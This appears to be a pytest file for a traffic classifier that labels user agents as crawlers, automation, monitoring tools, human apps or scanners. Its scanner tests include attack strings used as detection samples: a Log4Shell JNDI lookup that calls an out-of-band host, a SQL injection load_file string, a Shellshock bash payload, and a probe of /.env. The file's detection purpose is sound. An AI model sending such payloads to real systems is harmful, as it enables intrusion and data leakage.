"""The traffic classifier (streams/core/filters/traffic.py): classes, human apps, guards, scanner rules.

One test per guarded list pattern and per human-app rule: each shows the UA the guard or rule exists for,
and that the maintained list alone would have dropped it.
"""

from __future__ import annotations

import pytest

from streams.config import Config
from streams.core.filters import ua_tables as T
from streams.core.filters.bot_ua import BotUaCheck
from streams.core.regex import compile_re2
from tests.unit.helpers import BROWSER, at, cfg, req, run, why

_CFG = Config()
BOT = BotUaCheck(_CFG.filters.bot_ua, _CFG.filters.scanner)
C = BOT.classifier
LISTS = {lst.name: lst for lst in C._lists}


def classify(ua: str):
    return C.classify(ua)


# -- guards: one per guarded (list, pattern) -----------------------------------------------------------------

GUARDED = {
    ("crawler-user-agents", r"AP3A\.240617\.008"):
        "Mozilla/5.0 (Linux; Android 15; CPH2581 Build/AP3A.240617.008; wv) AppleWebKit/537.36 (KHTML, like "
        "Gecko) Version/4.0 Chrome/131.0.6778.135 Mobile Safari/537.36",
    ("crawler-user-agents", r"008\/"):
        "DESAY TS1008/1.0 Release/07.12.2013 Mozilla/5.0 (Linux; U; Android 4.0.3; zh-cn) AppleWebKit/534.30 "
        "(KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
    ("crawlerdetect", r"008\/"):
        "Opera/9.80 (J2ME/MIDP; Opera Mini/4.2.14912/870; U; id) Presto/2.4.15 SonyEricssonK2008/R1A",
    ("crawler-user-agents", r"Butterfly"):
        "Mozilla/5.0 (Linux; U; Android 4.3; en-us; HTC_Butterfly Build/JSS15J) AppleWebKit/534.30 (KHTML, like "
        "Gecko) Version/4.0 Mobile Safari/534.30",
    ("crawler-user-agents", r"Sonic"):
        "Mozilla/5.0 (Linux; Android 5.1; O+ Sonic) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/80.0.3987.162 "
        "Mobile Safari/537.36",
    ("crawler-user-agents", r"Fever"):
        "Mozilla/5.0 (Linux; Android 8.1.0; Fever_Plus_J) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/95.0.4638.50 Safari/537.36",
    ("crawler-user-agents", r"Sogou"):
        "Mozilla/5.0 (Linux; Android 10; TLA001 Build/QP1A.190711.020; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Version/4.0 Chrome/80.0.3987.132 Safari/537.36 SogouMSE,SogouMobileBrowser/5.22.8",
    ("crawlerdetect", r"Yandex(?!Search)"):
        "Mozilla/5.0 (Linux; Android 7.0; KIICAA MIX Build/NRD90M; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Version/4.0 Chrome/78.0.3904.108 Mobile Safari/537.36 com.yandex.zen/4.4.0.2189",
    ("crawlerdetect", r"speedy"): "Dalvik/2.1.0 (Linux; U; Android 6.0; SMART_4G_Speedy_5inch Build/MRA58K)",
    ("crawlerdetect", r"Buddy"): "JUC (Linux; U; 4.0.4; zh-cn; iBuddyConnecta_3G; 480*768) UCWEB7.9.0.94/139/444",
    ("crawlerdetect", r"Snake"):
        "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.7) Gecko/20040614 Moonsnake/0.9",
    ("crawlerdetect", r"Seeker"): "Mozilla/4.0 (compatible; MSIE 5.01; Windows 98; sureseeker.com)",
    ("crawlerdetect", r"PeoplePal"): "Mozilla/4.0 (compatible; MSIE 5.5; Windows 98; Win 9x 4.90; PeoplePal 3.0)",
    ("crawlerdetect", r"Word\/"): "4 Pics 1 Word/3.9 (iPad; iOS 7.0.2; Scale/2.00)",
    ("crawlerdetect", r"Turingos"): "Mozilla/5.0 (Linux; U; Android 8.1.0; TuringOS; Turing Phone) Chrome/70",
    ("crawlerdetect", r"LibWeb"): "Mozilla/5.0 (Linux; x86_64) LibWeb+LibJS/1.0 Ladybird/1.0",
    ("crawlerdetect", r"Fetch\/[0-9]"): "MozacFetch/49.0.20200702190156",
    ("crawler-user-agents", r"Fetch\/"): "MozacFetch/49.0.20200702190156",
    ("crawlerdetect", T.GUARDS[-1][1]):
        "Mozilla/5.0 (Linux; Android 8.1.0; XBot Junior) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/87.0.4280.101 Mobile Safari/537.36",
}


def test_every_guard_has_a_test() -> None:
    assert {(lst, p) for lst, p, _, _ in T.GUARDS} == set(GUARDED)


@pytest.mark.parametrize("key", sorted(GUARDED), ids=lambda k: f"{k[0]}:{k[1][:24]}")
def test_guarded_list_pattern_spares_the_device(key: tuple[str, str]) -> None:
    name, pattern = key
    ua = GUARDED[key]
    lst = LISTS[name]
    # The list entry, unguarded, hits this UA (the false drop the guard exists for) ...
    raw = pattern.replace("(?!Search)", "")
    text = lst._exclude.sub("", ua) if lst._exclude is not None else ua
    assert compile_re2(raw, ignore_case=name == "crawlerdetect").search(text)
    # ... and with its guard the list says nothing, and no other layer drops it.
    assert lst.hit(ua) is None
    assert classify(ua) is None


def test_guard_leaves_the_bot_the_pattern_was_written_for() -> None:
    assert LISTS["crawler-user-agents"].hit("Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)")
    assert classify("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)")[0] == "crawler"
    assert classify("Mozilla/5.0 (compatible; XoviBot/2.0; +http://www.xovibot.net/)")[0] == "crawler"


# -- human apps: one per rule ------------------------------------------------------------------------------

HUMAN = {
    "whatsapp-app": "WhatsApp/2.17.427 Android/6.0 Device/HTC-HTC_Desire_816",
    "facebook-in-app": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
                       "Gecko) Mobile/21B80 [FBAN/FBIOS;FBAV/442.0.0.47.106;FBBV/538361720;FBDV/iPhone14,5]",
    "instagram-in-app": "Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
                        "Gecko) Mobile/15E148 Instagram 302.0.0.23.114 (iPhone14,2; iOS 16_6; en_US)",
    "messenger-apps": "Mozilla/5.0 (Linux; Android 7.1.2; G011A Build/N2G48H; wv) AppleWebKit/537.36 (KHTML, like "
                      "Gecko) Version/4.0 Chrome/66.0.3359.158 Safari/537.36 Viber/11.9.5.8",
    "cfnetwork-app": "Slack/396839 CFNetwork/889.9 Darwin/17.2.0",
    "electron-app": "Mozilla/5.0 (Windows NT 10.0.18362; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                    "Slack/4.4.2 Chrome/78.0.3904.130 Electron/7.2.1 Safari/537.36",
    "qt-webengine-app": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_4) AppleWebKit/537.36 (KHTML, like Gecko) "
                        "QtWebEngine/5.6.0 Chrome/45.0.2454.101 Safari/537.36 Viber",
    "office-desktop": "Microsoft Office Word/16.78.1008 (Mac OS/14.0; Desktop; en-US; NonAppStore; Apple/Mac14,10)",
    "text-browsers": "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.6.5",
    "stumbleupon-toolbar": "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; StumbleUpon.com 1.763; SV1)",
    "blackboard-app": "Mozilla/5.0 (iPhone; CPU iPhone OS 15_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
                      "Gecko) Mobile/15E148 BlackboardMobile/5.2",
    "android-webview": "Mozilla/5.0 (Linux; Android 5.1; UOOGOU F9 Build/LMY47D; wv) AppleWebKit/537.36 (KHTML, like "
                       "Gecko) Version/4.0 Chrome/68.0.3440.106 Mobile Safari/537.36 AWP/2.0",
}


def test_every_human_app_rule_has_a_test() -> None:
    assert {name for name, _ in T.HUMAN_APPS} == set(HUMAN)


@pytest.mark.parametrize("name", sorted(HUMAN))
def test_human_app_is_never_dropped(name: str) -> None:
    ua = HUMAN[name]
    assert C._human.first(ua) == f"truesli:{name}"
    assert classify(ua) is None


@pytest.mark.parametrize("ua, verdict", [
    # the products' own fetchers stay bots: the human rule is about the app's shape, not the name
    ("WhatsApp/2.21.12.21 A", ("preview", "crawler-user-agents:WhatsApp")),
    ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
     ("preview", "crawler-user-agents:facebookexternalhit")),
    ("ViberUrlDownloader", ("preview", "crawler-user-agents:Viber")),
    ("Microsoft Office Excel 2013", ("preview", "crawlerdetect:Microsoft Office")),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Cursor/3.0.12 "
     "Chrome/142.0.7444.265 Electron/39.8.1 Safari/537.36", ("ai_crawler", "truesli:ai-crawlers")),
])
def test_fetchers_of_human_app_vendors_are_still_dropped(ua: str, verdict: tuple[str, str]) -> None:
    assert classify(ua) == verdict


def test_configured_allow_is_a_human_rule() -> None:
    check = BotUaCheck(cfg(filters={"bot_ua": {"allow": ["^acme-cron/"]}}).filters.bot_ua, _CFG.filters.scanner)
    assert check.classify("acme-cron/2.3") is None
    assert BOT.classify("acme-cron/2.3") == ("automation", "crawlerdetect:" + T.GUARDS[-1][1])


# -- classes ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize("ua, cls", [
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "crawler"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
     "ai_crawler"),
    ("Mozilla/5.0 (compatible; Ai2Bot-Dolma; +https://www.allenai.org/crawler)", "ai_crawler"),
    ("Java/17.0.2", "automation"),
    ("okhttp/4.9.0", "automation"),
    ("Go 1.1 package http", "automation"),
    ("reqwest/0.11.4", "automation"),
    ("HTTP_Request2/2.3.0 (http://pear.php.net/package/http_request2) PHP/5.6.40", "automation"),
    ("Amazon-Route53-Health-Check-Service (ref 1e1b-4d8f; report http://amzn.to/1vsZADi)", "monitoring"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0 Safari/537.36 "
     "DynatraceSynthetic/1.0", "monitoring"),
    ("NotionEmbedder", "preview"),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Bluesky Cardyb/1.1; "
     "+mailto:support@bsky.app) Chrome/W.X.Y.Z Safari/537.36", "preview"),
    ("FeedFetcher-Google; (+http://www.google.com/feedfetcher.html)", "feed_reader"),
    ("Windows-RSS-Platform/2.0 (IE 11.0; Windows NT 6.1)", "feed_reader"),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 "
     "Safari/537.36", "headless"),
    ("Mozilla/5.0 (compatible; Google Page Speed Insights) Chrome/27.0", "headless"),
    ("Report Runner", "automation"),  # no browser, platform or engine named at all
])
def test_traffic_classes(ua: str, cls: str) -> None:
    assert classify(ua)[0] == cls


@pytest.mark.parametrize("ua", [
    BROWSER,
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.0 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Opera/9.80 (J2ME/MIDP; Opera Mini/9.80 (S60; SymbOS; Opera Mobi/23.348; U; en) Presto/2.5.25 Version/10.54",
    "Nokia6230/2.0 (04.44) Profile/MIDP-2.0 Configuration/CLDC-1.1",
    "Kodi/19.3 (Linux; Android 9.0; MAG425A Build/PPR1.180610.011) Android/9.0.0 Sys_CPU/armv7l",
    "AntennaPod/2.4.0",      # a podcast player (a person listening): shape rule spares media clients
])
def test_browsers_and_media_clients_are_people(ua: str) -> None:
    assert classify(ua) is None


# -- scanners ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize("ua, rule", [
    ("Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Version/4.0 Chrome/60.0.3112.107 Moblie Safari/537.36", "typo:\\bmozlila/"),
    ("Mozila/5.0 (Windows NT 10.0; Win64; x64)", "typo:\\bmozila/"),
    ("Mozilla/5.0 (Linux; Android 9; SM-G960F Bulid/PPR1) Chrome/74.0", "typo:\\bbulid/"),
    ("Mozilla/5.0 (Linux; Android 9) Chrome/74.0 Moblie Safari/537.36", "typo:\\bmoblie\\b"),
    ("${jndi:ldap://${hostName}.useragent.x.oast.fun}", "payload:\\$\\{(?:jndi|env|sys|java|lower|upper|::-)"),
    ("Mozilla/5.0 (Windows NT 6.1) Chrome/75.0 Safari/537.36'+(select load_file('x'))+'", "payload:load_file\\("),
    ("() { :; }; /bin/bash -c 'id'", "payload:\\(\\)\\s*\\{\\s*:;\\s*\\}"),
    ("Mozilla/5.0 (Hydra)", "user_agent:hydra"),
    ("sqlmap/1.7.2#stable (https://sqlmap.org)", "user_agent:sqlmap"),
])
def test_scanner_user_agents(ua: str, rule: str) -> None:
    assert classify(ua) == ("scanner", rule)


def test_scanner_needles_do_not_fire_inside_ordinary_tokens() -> None:
    # the "hydra" case: a needle inside a browser's own token or a build id is not a tool name
    for ua in ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0 Hydrangea/1.0",
               "Mozilla/5.0 (Linux; Android 12; HYDRAX Build/SKQ1) AppleWebKit/537.36 (KHTML, like Gecko) "
               "Chrome/110.0 Mobile Safari/537.36",
               "Mozilla/5.0 (Linux; Android 4.0.4; Cat Tablet Galactica 9,7CA Build/IMM76D) AppleWebKit/537.36 "
               "(KHTML, like Gecko) Chrome/33.0.1750.136 Safari/537.36"):
        assert classify(ua) is None, ua


# -- per-journey keep ---------------------------------------------------------------------------------------

def test_a_journey_can_keep_automation_and_the_default_keeps_none() -> None:
    journeys = [{"name": "api", "match": {"path_prefixes": ["/api/"]}, "keep": ["automation"],
                 "slos": [{"name": "a", "kind": "availability", "objective": 0.99}]},
                {"name": "web", "slos": [{"name": "a", "kind": "availability", "objective": 0.99}]}]
    batch = [req(ts=at(1), path="/api/orders", ua="okhttp/4.9.0"),
             req(ts=at(2), path="/api/orders", ua="Java/17.0.2"),
             req(ts=at(3), path="/api/orders", ua="Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
             req(ts=at(4), path="/home", ua="okhttp/4.9.0")]
    _, out = run(cfg(journeys=journeys), batch)
    assert [(v.journey, v.verdict, v.reason) for v in out.verdicts] == [
        ("api", "counted", None), ("api", "counted", None), ("api", "filtered", "crawler"),
        ("web", "filtered", "automation")]
    assert out.tally.filtered == {"crawler": 1, "automation": 1}


def test_global_keep_applies_to_every_journey() -> None:
    _, out = run(cfg(filters={"bot_ua": {"keep": ["feed_reader"]}}),
                 [req(ua="FeedFetcher-Google; (+http://www.google.com/feedfetcher.html)")])
    assert why(out) == [("counted", None, "journeys[0]")]


def test_a_kept_class_still_meets_the_stateful_filters() -> None:
    # an SDK client the journey keeps is still a scanner when it probes
    journeys = [{"name": "api", "keep": ["automation"],
                 "slos": [{"name": "a", "kind": "availability", "objective": 0.99}]}]
    _, out = run(cfg(journeys=journeys), [req(ts=at(1), ua="python-requests/2.31", path="/.env")])
    assert why(out) == [("filtered", "scanner", "probe_path:/.env")]
